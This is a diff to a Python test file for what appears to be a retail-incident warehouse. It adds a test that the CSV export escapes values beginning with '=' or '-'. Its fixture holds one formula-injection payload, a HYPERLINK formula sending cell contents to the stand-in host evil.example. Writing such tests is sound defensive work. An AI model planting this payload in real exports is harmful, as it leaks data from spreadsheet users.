@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime, timedelta
 
 import pytest
@@ -11,7 +13,15 @@ from shrinkwatch.site_file import parse_site_config
 from tests.factories import incident
 from warehouse.db import connect
 from warehouse.incidents import review_incident, upsert_incidents
-from warehouse.queries import Cursor, IncidentFilter, QueryError, Scope, incident_count, incidents_page
+from warehouse.queries import (
+    Cursor,
+    IncidentFilter,
+    QueryError,
+    Scope,
+    incident_count,
+    incidents_csv,
+    incidents_page,
+)
 from warehouse.site_tables import apply_site_config
 
 SITE = """
@@ -140,3 +150,45 @@ def test_unknown_or_hostile_values_find_nothing(seeded: Settings) -> None:
     assert len(ids(seeded, Scope.of("store-001"))) == 5  # and the table is still there
     with connect(seeded.database_dsn) as conn, pytest.raises(QueryError, match="page_size"):
         incidents_page(conn, Scope.of("store-001"), page_size=0)
+
+
+def test_the_csv_export_runs_no_formula(settings: Settings) -> None:
+    # Ids from a site file may start with '-'; a note is whatever a reviewer typed.
+    site = """
+stores:
+  - {id: store-001, name: Leeds, timezone: Europe/London}
+cameras:
+  - id: -2-3
+    store_id: store-001
+    name: Aisle
+    stream_url: /dev/null
+    zones:
+      - {id: -1-1, name: Door, kind: entrance, polygon: [[0, 0], [1, 0], [1, 1]]}
+"""
+    started = datetime(2026, 3, 8, 10, tzinfo=UTC)
+    note = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    with connect(settings.database_dsn) as conn:
+        apply_site_config(conn, parse_site_config(site))
+        upsert_incidents(
+            conn,
+            [
+                incident(
+                    1, incident_id="x-1", camera_id="-2-3", zone_ids=["-1-1"], started_at=started, track_id=-1
+                )
+            ],
+        )
+        assert review_incident(conn, "x-1", confirmed=True, reviewed_by="ana", note=note)
+        body = incidents_csv(conn, Scope.of("store-001"), ALL)
+    [row] = csv.DictReader(io.StringIO(body.decode("utf-8")))
+    assert row["camera_id"] == "'-2-3" and row["zone_ids"] == "'-1-1"
+    assert row["review_note"] == "'" + note
+    assert (row["store_id"], row["reviewed_by"], row["risk_score"], row["track_id"]) == (
+        "store-001",
+        "ana",
+        "0.5",
+        "-1",
+    )
+    assert row["signals"] == "dwell_high_value_s=0.500"
+    assert row["started_at"] == "2026-03-08 10:00:00+00:00"
+    first_cells = [line.split(",")[0] for line in body.decode("utf-8").splitlines()]
+    assert first_cells == ['"incident_id"', '"x-1"']
